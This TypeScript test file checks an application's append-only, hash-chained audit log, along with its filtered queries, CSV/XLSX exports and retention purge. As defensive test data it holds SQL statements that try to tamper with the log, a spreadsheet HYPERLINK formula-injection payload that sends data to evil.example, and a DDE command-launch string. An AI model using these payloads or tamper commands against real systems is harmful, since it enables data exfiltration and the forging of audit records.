import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import {
  asOwner,
  bearer,
  createTestApp,
  DEMO_PASSWORD,
  login,
  type Session,
  type TestApp,
} from '../../../test/test-app';
import { AuditQueryService } from './audit-query.service';

describe('audit log', () => {
  let t: TestApp;
  let auditor: Session;
  let admin: Session;

  beforeAll(async () => {
    t = await createTestApp();
    auditor = await login(t, 'auditor', DEMO_PASSWORD);
    admin = await login(t, 'sysadmin', DEMO_PASSWORD);
  });
  afterAll(() => t.close());

  async function newestRowId(): Promise<string> {
    const [{ id }] = await t.dataSource.query<Array<{ id: string }>>(
      `SELECT max(id)::text AS id FROM audit_log`,
    );
    return id;
  }

  it('is append-only for the application by privilege: its role is no superuser and may not change a row', async () => {
    // the connection the running API uses
    const [role] = await t.dataSource.query<
      Array<{ role: string; superuser: boolean; replication: boolean; bypassRls: boolean }>
    >(
      `SELECT current_user AS role, rolsuper AS superuser, rolreplication AS replication, rolbypassrls AS "bypassRls"
         FROM pg_roles WHERE rolname = current_user`,
    );
    expect(role).toEqual({ role: 'skillpay_app', superuser: false, replication: false, bypassRls: false });
    const id = await newestRowId();
    for (const sql of [
      `UPDATE audit_log SET action = 'forged' WHERE id = ${id}`,
      `DELETE FROM audit_log WHERE id = ${id}`,
      `TRUNCATE audit_log`,
      `ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only`,
      `UPDATE workflow_transition SET reason = 'forged'`,
      `DELETE FROM workflow_transition`,
      `DELETE FROM schema_migration`,
    ]) {
      await expect(t.dataSource.query(sql)).rejects.toThrow(/permission denied|must be owner/);
    }
    expect(await newestRowId()).not.toBeNull();
  });

  it('is append-only in the database itself, for its owner too: UPDATE, DELETE and TRUNCATE are refused', async () => {
    const id = await newestRowId();
    await asOwner(async (owner) => {
      await expect(owner.query(`UPDATE audit_log SET action = 'forged' WHERE id = $1`, [id])).rejects.toThrow(
        /append-only: UPDATE refused/,
      );
      await expect(owner.query(`DELETE FROM audit_log WHERE id = $1`, [id])).rejects.toThrow(
        /append-only: DELETE refused/,
      );
      await expect(owner.query(`TRUNCATE audit_log`)).rejects.toThrow(/append-only: TRUNCATE refused/);
    });
  });

  it('chains every row to the one before, and verification finds the first tampered row', async () => {
    const clean = await t.http().get('/api/audit-logs/verify').set(bearer(auditor)).expect(200);
    expect(clean.body).toEqual({ ok: true, checked: expect.any(Number), firstBrokenId: null });
    expect(clean.body.checked).toBeGreaterThan(0);

    // The owner (or a superuser) bypassing the trigger to rewrite history is what the chain exposes.
    const [{ id, action }] = await t.dataSource.query<Array<{ id: string; action: string }>>(
      `SELECT id::text AS id, action FROM audit_log ORDER BY id DESC OFFSET 1 LIMIT 1`,
    );
    const rewrite = (value: string) =>
      asOwner((owner) =>
        owner.transaction(async (manager) => {
          await manager.query(`ALTER TABLE audit_log DISABLE TRIGGER audit_log_append_only`);
          await manager.query(`UPDATE audit_log SET action = $2 WHERE id = $1`, [id, value]);
          await manager.query(`ALTER TABLE audit_log ENABLE TRIGGER audit_log_append_only`);
        }),
      );
    await rewrite('user.forged');
    try {
      const broken = await t.http().get('/api/audit-logs/verify').set(bearer(auditor)).expect(200);
      expect(broken.body).toMatchObject({ ok: false, firstBrokenId: id });
    } finally {
      await rewrite(action);
    }
    const restored = await t.http().get('/api/audit-logs/verify').set(bearer(auditor)).expect(200);
    expect(restored.body.ok).toBe(true);
  });

  it('records who changed what, from where, with before and after, and finds it by filters', async () => {
    const regions = await t
      .http()
      .patch('/api/regions/370285')
      .set(bearer(admin))
      .set('X-Request-Id', 'req-audit-test-1')
      .send({ nameEn: 'Laixi City' })
      .expect(200);
    expect(regions.body.nameEn).toBe('Laixi City');
    const found = await t
      .http()
      .get('/api/audit-logs?action=region.&entityId=370285')
      .set(bearer(auditor))
      .expect(200);
    expect(found.body.total).toBe(1);
    expect(found.body.items[0]).toMatchObject({
      actorUsername: 'sysadmin',
      actorRole: 'sysadmin',
      ip: admin.ip,
      requestId: 'req-audit-test-1',
      action: 'region.update',
      entityType: 'region',
      entityId: '370285',
      outcome: 'success',
      before: { nameEn: 'Laixi' },
      after: { nameEn: 'Laixi City' },
    });
  });

  it('exports the filtered log as csv and as xlsx', async () => {
    const csv = await t
      .http()
      .get('/api/audit-logs/export?format=csv&actor=sysadmin&action=auth.login')
      .set(bearer(auditor))
      .expect(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename="audit-log-\d+\.csv"/);
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toContain('操作 Action');
    expect(lines.length).toBeGreaterThan(1);
    expect(lines.slice(1).every((line) => line.includes('auth.login') && line.includes('sysadmin'))).toBe(
      true,
    );

    const xlsx = await t
      .http()
      .get('/api/audit-logs/export?format=xlsx&action=region.update')
      .set(bearer(auditor))
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(xlsx.body as Buffer).buffer);
    const sheet = workbook.worksheets[0];
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const row = Object.fromEntries(
      headers.map((header, index) => [header, sheet.getRow(2).getCell(index + 1).value]),
    );
    // labels in the reader's language (zh-CN by default), names before ids, China time
    expect(row).toMatchObject({
      '操作 Action': '修改行政区划',
      '操作代码 Action code': 'region.update',
      '对象类型 Object type': '行政区划',
      '对象 Object': '莱西市',
      '对象 ID Object ID': '370285',
      '操作人 Actor': '系统管理员',
      '账号 Username': 'sysadmin',
      '角色 Role': '系统管理员',
    });
    const time = row['时间（北京时间 UTC+08:00） Time (China, UTC+08:00)'];
    expect(time).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);

    const exports = await t
      .http()
      .get('/api/audit-logs?action=audit.export')
      .set(bearer(auditor))
      .expect(200);
    expect(exports.body.total).toBeGreaterThanOrEqual(2);
  });

  it('exports names typed at the login as inert text: no cell of the csv starts a formula', async () => {
    // anyone may type these as a user name; the failed login is audited with the name as typed
    const names = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /c calc'!A0"];
    for (const username of names) {
      await t.http().post('/api/auth/login').send({ username, password: 'wrong-password' }).expect(401);
    }
    for (const username of names) {
      const csv = await t
        .http()
        .get('/api/audit-logs/export')
        .query({ format: 'csv', action: 'auth.login_failed', actor: username })
        .set(bearer(auditor))
        .expect(200);
      const { data } = Papa.parse<string[]>(csv.text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
      const column = data[0].indexOf('账号 Username');
      expect(data.length).toBe(2);
      // the cell holds the name (in lower case, as logins are), prefixed with a single quote so that
      // a spreadsheet shows it as text
      expect(data[1][column]).toBe(`'${username.toLowerCase()}`);
      for (const row of data) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('gives the audit administrator the audit log and nothing else', async () => {
    await t.http().get('/api/users').set(bearer(auditor)).expect(403);
    await t.http().get('/api/regions').set(bearer(auditor)).expect(403);
    await t.http().post('/api/users').set(bearer(auditor)).send({}).expect(403);
  });

  it('purges by retention only through the audited purge function, keeping the chain verifiable', async () => {
    const purge = t.app.get(AuditQueryService);
    const removed = await purge.purgeOlderThan(new Date('2000-01-01T00:00:00Z'));
    expect(removed).toBe(0);
    const everything = await purge.purgeOlderThan(new Date(Date.now() + 1000));
    expect(everything).toBeGreaterThan(0);
    const rows = await t.http().get('/api/audit-logs').set(bearer(auditor)).expect(200);
    expect(rows.body.items[rows.body.items.length - 1]).toMatchObject({
      action: 'audit.purge',
      after: { removed: everything },
    });
    const verified = await t.http().get('/api/audit-logs/verify').set(bearer(auditor)).expect(200);
    expect(verified.body.ok).toBe(true);
  });
});
